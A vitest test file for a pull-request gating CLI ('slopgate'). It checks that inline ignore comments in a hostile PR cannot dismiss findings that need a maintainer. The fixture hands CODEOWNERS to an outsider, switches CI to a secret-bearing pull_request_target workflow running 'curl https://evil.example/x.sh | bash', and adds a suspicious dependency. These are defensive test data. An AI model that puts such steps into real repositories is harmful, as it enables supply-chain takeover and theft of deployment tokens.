import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { Report } from '../../src/core/report.js';
import { prRepo, removeTestRepos } from '../helpers/git-repo.js';

/**
 * Issue 19, item 1, through the real CLI: a PR that hands the repository to a stranger (CODEOWNERS),
 * turns a workflow into a secret-bearing `pull_request_target` one and adds a dependency cannot
 * dismiss those findings itself with `slopgate-ignore` comments.
 */
const TSX = join(process.cwd(), 'node_modules', '.bin', 'tsx');
const CLI = join(process.cwd(), 'src', 'cli.ts');

afterAll(() => removeTestRepos());

function check(dir: string, format: 'json' | 'text') {
  return spawnSync(TSX, [CLI, 'check', '--base', 'main', '--head', 'pr', '--strict', '--no-tests', '--format', format], {
    cwd: dir,
    encoding: 'utf8',
    env: { ...process.env, NO_COLOR: '1' },
  });
}

const BASE = {
  '.github/CODEOWNERS': '* @acme/maintainers\n',
  '.github/workflows/ci.yml':
    'name: ci\non: pull_request\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm test\n',
  'requirements.txt': 'requests==2.31.0\n',
  'docs/guide.md': '# Guide\n\nHow to use it.\n',
};

const MARK = '# slopgate-ignore sensitive-path: routine';

const HOSTILE = {
  '.github/CODEOWNERS': `${MARK}\n* @mallory\n`,
  '.github/workflows/ci.yml': [
    'name: ci',
    MARK,
    'on: pull_request_target',
    'permissions:',
    `  ${MARK}`,
    '  contents: write',
    'jobs:',
    '  test:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - uses: actions/checkout@v4',
    `      ${MARK}`,
    '      - run: curl -s https://evil.example/x.sh | bash',
    '        env:',
    '          TOKEN: ${{ secrets.DEPLOY_TOKEN }}',
    '',
  ].join('\n'),
  'requirements.txt': `requests==2.31.0\n${MARK}\n# slopgate-ignore manifest-edit: routine\nevil-pkg==1.0.0\n`,
};

describe('inline dismissals of maintainer-only findings (real CLI)', () => {
  it('markers above CODEOWNERS, a pull_request_target workflow and a new dependency dismiss nothing: --strict exits non-zero', () => {
    const repo = prRepo(BASE, HOSTILE);
    const r = check(repo.dir, 'json');
    expect(r.stderr).not.toMatch(/Error/);
    expect(r.status).toBe(1);
    const report = JSON.parse(r.stdout) as Report;
    const g1 = report.findings.filter((f) => f.guard === 'G1');
    expect(g1.map((f) => [f.path, f.category]).sort()).toEqual([
      ['.github/CODEOWNERS', 'sensitive-path'],
      ['.github/workflows/ci.yml', 'sensitive-path'],
      ['requirements.txt', 'manifest-edit'],
    ]);
    expect(g1.every((f) => !f.dismissed)).toBe(true);
    expect(report.decision.conclusion).toBe('action_required');
    expect(report.decision.blocking).toBe(3);
    const codeowners = g1.find((f) => f.path === '.github/CODEOWNERS')!;
    expect(codeowners.message).toContain('inline dismissal ignored: sensitive-path findings need a maintainer');
    expect(codeowners.message).toContain(`/slopgate dismiss ${codeowners.id}`);
    expect(g1.find((f) => f.path === 'requirements.txt')!.message).toContain(
      'inline dismissal ignored: manifest-edit findings need a maintainer',
    );
  });

  it('the text report says which markers were ignored, and the same PR without markers gets the same decision', () => {
    const marked = check(prRepo(BASE, HOSTILE).dir, 'text');
    expect(marked.status).toBe(1);
    expect(marked.stdout).toContain('inline dismissal ignored: sensitive-path findings need a maintainer');
    expect(marked.stdout).not.toContain('(dismissed)');

    const plain = Object.fromEntries(Object.entries(HOSTILE).map(([p, t]) => [p, t.replace(/^\s*# slopgate-ignore.*\n/gm, '')]));
    const unmarked = check(prRepo(BASE, plain).dir, 'json');
    expect(unmarked.status).toBe(1);
    const outcome = (JSON.parse(unmarked.stdout) as Report).decision.outcome;
    expect(marked.stdout).toMatch(new RegExp(`^${outcome} \\(action_required\\)`, 'm'));
  });

  it("a marker on the list (a dead link in the PR's own docs) still dismisses", () => {
    const repo = prRepo(BASE, {
      'docs/guide.md':
        '# Guide\n\nHow to use it.\n\n<!-- slopgate-ignore dead-link: published with the release -->\nSee [setup](setup.md).\n',
    });
    const r = check(repo.dir, 'json');
    const report = JSON.parse(r.stdout) as Report;
    const link = report.findings.find((f) => f.category === 'dead-link')!;
    expect(link.dismissed).toMatchObject({ source: 'inline', reason: 'published with the release' });
    expect(r.status).toBe(0);
  });
});
